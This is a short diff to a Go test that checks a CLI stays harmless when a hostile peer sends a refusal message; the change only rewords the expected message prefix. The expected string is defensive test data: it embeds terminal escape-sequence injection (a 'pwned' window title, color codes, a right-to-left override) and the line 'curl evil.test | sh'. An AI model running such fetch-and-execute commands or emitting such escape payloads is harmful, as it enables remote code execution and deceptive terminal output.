@@ -72,7 +72,7 @@ func TestHostileRefusal(t *testing.T) {
 	for _, args := range []string{"ping --count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf --target %", "cp %/f " + t.TempDir()} {
 		q := run(t, exitNotRun, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
 		requireHarmless(t, q)
-		require.Contains(t, q.errors.String(), `the peer refused: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
+		require.Contains(t, q.errors.String(), `refused by peer: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
 	}
 }
 
